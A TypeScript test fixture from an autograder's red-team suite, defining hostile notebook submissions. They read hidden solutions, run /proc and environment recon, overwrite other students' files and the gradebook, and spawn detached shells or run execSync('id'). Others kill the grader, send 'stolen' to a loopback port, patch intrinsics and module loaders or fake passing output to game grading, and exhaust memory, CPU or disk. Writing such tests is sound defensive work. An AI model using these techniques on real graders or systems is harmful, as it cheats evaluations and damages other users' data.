@@ -1,0 +1,220 @@
+// Hostile submissions of test/fixtures/grading/redteam.ipynb for the red-team
+// suite (redteam.test.ts): each builds a real notebook, the release filled
+// with the source's solutions and then changed the way an attacker would.
+// Placeholders (TARGETS_JSON, OUT_DIR, PORT) are filled in by the suite.
+import os from "node:os";
+import path from "node:path";
+import { joinText, readNotebook, type Cell, type Notebook } from "../../src/jupyter/nbformat";
+import { releaseNotebook } from "../../src/grading/release";
+import { solutionText } from "../../src/grading/markers";
+import { gradeIdOf } from "../../src/grading/metadata";
+
+export const SOURCE = path.resolve(__dirname, "../fixtures/grading/redteam.ipynb");
+const q = JSON.stringify;
+
+/** The release with the source's solutions, then the attack's changes. */
+export function submission(edit: (set: (id: string, src: string) => void, add: (src: string, afterId?: string) => void) => void): Notebook {
+  const src = readNotebook(SOURCE);
+  const nb = releaseNotebook(src, SOURCE);
+  const byId = (n: Notebook, id: string) => n.cells.find((c) => gradeIdOf(c) === id)!;
+  for (const id of ["sigmoid-solution", "clip-solution"]) byId(nb, id).source = solutionText(joinText(byId(src, id).source));
+  let k = 0;
+  edit(
+    (id, text) => (byId(nb, id).source = text),
+    (text, afterId = "setup") => {
+      const at = nb.cells.indexOf(byId(nb, afterId)) + 1;
+      nb.cells.splice(at, 0, { cell_type: "code", id: `attack-${k++}`, metadata: {}, source: text, outputs: [], execution_count: null } as Cell);
+    },
+  );
+  return nb;
+}
+
+const WRONG_SIGMOID = "function sigmoid(z: number): number {\n  return 0.5;\n}";
+const WRONG_CLIP = "function clip(x: number, lo: number, hi: number): number {\n  return lo;\n}";
+
+export const ATTACKS: Record<string, () => Notebook> = {
+  control: () => submission(() => {}),
+  victim: () => submission(() => {}),
+  // Read the source notebook (solutions, hidden tests) and run the instructor's solution through new Function.
+  "read-source": () =>
+    submission((set) =>
+      set(
+        "sigmoid-solution",
+        `function sigmoid(z: number): number {
+  const nb = JSON.parse(require("fs").readFileSync(${q(SOURCE)}, "utf8"));
+  const cell = nb.cells.find((c: any) => c.metadata?.nbgrader?.grade_id === "sigmoid-solution");
+  const body = cell.source.join("").split("\\n").filter((l: string) => !/SOLUTION|function|^}/.test(l)).join("\\n");
+  return new Function("z", body)(z);
+}`,
+      ),
+    ),
+  // Look around: every process's command line (the grader's --source/--out), the environment, the folders.
+  recon: () =>
+    submission((set) =>
+      set(
+        "sigmoid-solution",
+        `import * as fs from "fs";
+function recon(): string[] {
+  const found: string[] = [];
+  const read = (p: string) => { try { return fs.readFileSync(p, "utf8").replace(/\\0/g, " "); } catch (e: any) { return "!" + e.code; } };
+  const list = (p: string) => { try { return p + ": " + fs.readdirSync(p).join(","); } catch (e: any) { return p + ": !" + e.code; } };
+  for (const pid of fs.readdirSync("/proc").filter((d) => /^\\d+$/.test(d))) found.push(read("/proc/" + pid + "/cmdline"));
+  found.push(read("/proc/" + process.ppid + "/cmdline"), JSON.stringify(process.env), process.cwd(), list("."));
+  for (const p of [${q(path.dirname(SOURCE))}, ${q(os.tmpdir())}, "/work", "/tmp", "/root", "/home"]) found.push(list(p));
+  found.push(read(${q(SOURCE)}));
+  return found;
+}
+function sigmoid(z: number): number {
+  throw new Error("RECON " + JSON.stringify(recon()));
+}`,
+      ),
+    ),
+  // Overwrite another student's submission, the source, the gradebook and the library itself.
+  vandal: () =>
+    submission((_, add) =>
+      add(`const targets: Record<string, string> = TARGETS_JSON;
+const wrote: Record<string, string> = {};
+for (const [what, p] of Object.entries(targets)) {
+  try { require("fs").writeFileSync(p, "{}"); wrote[what] = "WROTE"; } catch (e: any) { wrote[what] = e.code; }
+}
+console.log(JSON.stringify(wrote));`),
+    ),
+  // A child that outlives grading and rewrites the gradebook; a process, a binding and a worker.
+  detached: () =>
+    submission((_, add) =>
+      add(`const tries: string[] = [];
+try { require("child_process").spawn("sh", ["-c", "sleep 4242.5; echo pwned > OUT_DIR/pwned"], { detached: true, stdio: "ignore" }).unref(); tries.push("spawned"); } catch (e: any) { tries.push(e.message); }
+try { (process as any).binding("spawn_sync"); tries.push("binding"); } catch (e: any) { tries.push(e.message); }
+try { new (require("worker_threads").Worker)("setTimeout(() => {}, 4242500)", { eval: true }); tries.push("worker"); } catch (e: any) { tries.push(e.message); }
+console.log(tries);`),
+    ),
+  // Redeclare the test helpers: check, and the library function a hidden test compares with.
+  "redeclare-check": () =>
+    submission((set, add) => {
+      set("sigmoid-solution", `function check(name: string, got: unknown, expected: unknown, options?: unknown): void {}\n${WRONG_SIGMOID}`);
+      set("clip-solution", WRONG_CLIP);
+      add("const sigmoidScalar = (z: number) => 0.5;", "clip-solution");
+    }),
+  // Patch the intrinsics the checks rely on (and pollute Object.prototype with a tolerance).
+  "patch-globals": () =>
+    submission((set, add) => {
+      add(`const tried: Record<string, unknown> = {};
+const attempt = (name: string, f: () => unknown) => { try { tried[name] = f(); } catch (e: any) { tried[name] = "refused"; } };
+attempt("Number.isNaN", () => { (Number as any).isNaN = () => true; return Number.isNaN(1); });
+attempt("Object.is", () => { (Object as any).is = () => true; return Object.is(1, 2); });
+attempt("Object.prototype.tol", () => { Object.defineProperty(Object.prototype, "tol", { value: Infinity }); return ({} as any).tol; });
+attempt("Array.prototype.every", () => { (Array.prototype as any).every = () => true; return [1].every(() => false); });
+attempt("Math.abs", () => { (Math as any).abs = () => 0; return Math.abs(-1); });
+attempt("globalThis.Number", () => { (globalThis as any).Number = { isNaN: () => true, isFinite: () => true }; return typeof Number; });
+attempt("timer", () => setInterval(() => { try { (Number as any).isNaN = () => true; } catch {} }, 0));
+console.log(tried);`);
+      set("sigmoid-solution", "function sigmoid(z: number): number {\n  return NaN;\n}");
+      set("clip-solution", "function clip(x: number, lo: number, hi: number): number {\n  return NaN;\n}");
+    }),
+  // Patch the kernel's and the library's modules through require.cache, and the machinery that runs cells.
+  "patch-modules": () =>
+    submission((set, add) => {
+      add(`const patched: string[] = [];
+const tryTo = (what: string, f: () => boolean) => { try { if (f()) patched.push(what); } catch { /* refused */ } };
+for (const [file, mod] of Object.entries(require.cache)) {
+  const ex: any = mod?.exports;
+  if (!ex) continue;
+  // The kernel's engine: every later cell "runs" without running.
+  if (ex.Engine) tryTo("Engine.execute", () => { const f = async () => ({ status: "ok", hasValue: false, warnings: [] }); ex.Engine.prototype.execute = f; return ex.Engine.prototype.execute === f; });
+  // The library's check, where it is defined (index.js re-exports it through a getter).
+  if (file.endsWith("check.js") && typeof ex.check === "function") tryTo(file, () => { const f = () => {}; ex.check = f; return ex.check === f; });
+}
+const vm: any = require("vm");
+tryTo("vm.runInThisContext", () => { const orig = vm.runInThisContext; const f = (code: string, o: any) => orig(code.replace(/\\bcheck\\(/g, "void ("), o); vm.runInThisContext = f; return vm.runInThisContext === f; });
+const M = require("module") as any;
+tryTo("Module._load", () => { const orig = M._load; const f = function (this: any, r: string, ...a: any[]) { return r === "descent" ? { check() {}, sigmoidScalar: () => 0.5 } : orig.call(this, r, ...a); }; M._load = f; return M._load === f; });
+console.log("patched:", patched);`);
+      set("sigmoid-solution", WRONG_SIGMOID);
+      set("clip-solution", WRONG_CLIP);
+    }),
+  // Print the lines a passing check prints.
+  "fake-output": () =>
+    submission((set, add) => {
+      add(`const log = console.log;
+console.log = (...a: unknown[]) => log("✓", ...a);
+process.stdout.write("✓ sigmoid(0)\\n✓ sigmoid(2)\\n✓ clip(5, 0, 1)\\n");`);
+      set("sigmoid-solution", `${WRONG_SIGMOID}\nconsole.log("✓ sigmoid agrees with descent's sigmoidScalar");`);
+      set("clip-solution", WRONG_CLIP);
+    }),
+  // Kill the grader (the kernel's parent) from the clip solution.
+  "kill-parent": () => submission((set) => set("clip-solution", `function clip(x: number, lo: number, hi: number): number {\n  return Math.min(hi, Math.max(lo, x));\n}\nprocess.kill(process.ppid, "SIGKILL");`)),
+  // Leave the sandbox's network namespace: connect to a server on the grader's loopback.
+  network: () =>
+    submission((_, add) =>
+      add(`const net = require("net");
+const s = net.connect(PORT, "127.0.0.1");
+s.on("error", () => {});
+s.write("stolen");
+fetch("http://127.0.0.1:PORT/").catch(() => {});`),
+    ),
+  // Reach around the lockdown: the inspector, workers, native addons, eval, process.binding.
+  hatches: () =>
+    submission((set) =>
+      set(
+        "sigmoid-solution",
+        `const outcome: Record<string, string> = {};
+const t = (k: string, f: () => unknown) => { try { f(); outcome[k] = "ALLOWED"; } catch (e: any) { outcome[k] = "refused: " + String(e?.message).slice(0, 60); } };
+t("inspector", () => require("inspector"));
+t("node:inspector", () => require("node:inspector"));
+t("process.binding", () => (process as any).binding("inspector"));
+t("_linkedBinding", () => (process as any)._linkedBinding("inspector"));
+t("dlopen", () => (process as any).dlopen({ exports: {} }, process.execPath));
+t("worker", () => new (require("worker_threads").Worker)("1", { eval: true }));
+t("eval", () => eval("1 + 1"));
+t("Function", () => new Function("return 1")());
+t("v8", () => require("v8").setFlagsFromString("--allow-natives-syntax"));
+t("child_process", () => require("child_process").execSync("id"));
+t("replace Module._load", () => { const M = require("module") as any; const mine = () => 1; M._load = mine; if (M._load !== mine) throw new Error("frozen"); });
+function sigmoid(z: number): number {
+  throw new Error("HATCHES " + JSON.stringify(outcome));
+}`,
+      ),
+    ),
+  // Find the tests' locked global and replace, redefine or shadow it.
+  anchor: () =>
+    submission((set, add) => {
+      add(`const names = Object.getOwnPropertyNames(globalThis).filter((n) => n.startsWith("dg$"));
+for (const n of names) {
+  const fake = { descent: { check() {}, sigmoidScalar: () => 0.5 } };
+  try { (globalThis as any)[n] = fake; } catch {}
+  try { Object.defineProperty(globalThis, n, { value: fake }); } catch {}
+  try { delete (globalThis as any)[n]; } catch {}
+  try { (globalThis as any).__tslab__.exports[n] = fake; } catch {}
+  try { (globalThis as any)[n].descent.check = () => {}; } catch {}
+}
+console.log("anchors:", names.length);`);
+      set("sigmoid-solution", WRONG_SIGMOID);
+      set("clip-solution", WRONG_CLIP);
+    }),
+  // Shadow only the library function one hidden test compares with (the others pin numbers).
+  "library-shadow": () =>
+    submission((set, add) => {
+      set("sigmoid-solution", "function sigmoid(z: number): number {\n  return 0.5 + z / 4;\n}");
+      add("function sigmoidScalar(z: number): number {\n  return sigmoid(z);\n}", "sigmoid-solution");
+    }),
+  // Values that are not what they claim: a Proxy for a number, an object whose valueOf lies.
+  exotic: () =>
+    submission((set) => {
+      set("sigmoid-solution", "function sigmoid(z: number): number {\n  return new Proxy({}, { get: () => () => 0.5 }) as any;\n}");
+      set("clip-solution", "function clip(x: number, lo: number, hi: number): number {\n  let n = 0;\n  return { valueOf: () => [1, 0, 0.25][n++ % 3] } as any;\n}");
+    }),
+};
+
+export const RESOURCE_ATTACKS: Record<string, () => Notebook> = {
+  // 4 GB of Buffers, and a JavaScript heap that grows without end.
+  memory: () =>
+    submission((set) => {
+      set("sigmoid-solution", `const hoard: Buffer[] = [];\nfor (let i = 0; i < 40; i++) hoard.push(Buffer.alloc(100e6, 1));\n${WRONG_SIGMOID}`);
+      set("clip-solution", `const heap: number[][] = [];\nfor (;;) heap.push(new Array(1e7).fill(1.5));\n${WRONG_CLIP}`);
+    }),
+  // A loop that never ends, longer than the CPU limit but shorter than the cell timeout.
+  cpu: () => submission((set) => set("sigmoid-solution", `let spin = 0;\nwhile (true) spin++;\n${WRONG_SIGMOID}`)),
+  // Fill the working folder.
+  disk: () => submission((set) => set("sigmoid-solution", `const chunk = Buffer.alloc(1 << 20, 1);\nfor (let i = 0; i < 1000; i++) require("fs").appendFileSync("fill.bin", chunk);\n${WRONG_SIGMOID}`)),
+};
+
